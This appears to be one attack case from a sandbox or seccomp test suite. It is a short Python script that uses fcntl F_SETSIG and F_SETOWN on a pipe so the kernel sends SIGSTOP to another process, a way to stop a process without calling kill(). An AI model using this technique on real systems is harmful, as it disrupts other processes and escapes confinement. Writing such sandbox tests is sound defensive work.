# attack: has the kernel signal another process: as the owner of a descriptor that becomes ready
# lines: 10 30
# sign: damage
# process: seccomp
import fcntl
import os
import time

read, write = os.pipe()
try:
    fcntl.fcntl(read, 10, 19)  # F_SETSIG: SIGSTOP instead of SIGIO
    fcntl.fcntl(read, fcntl.F_SETOWN, SURROUNDINGS["pid"])
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(write, b"!")
    time.sleep(0.05)
except OSError as error:
    print(type(error).__name__, flush=True)
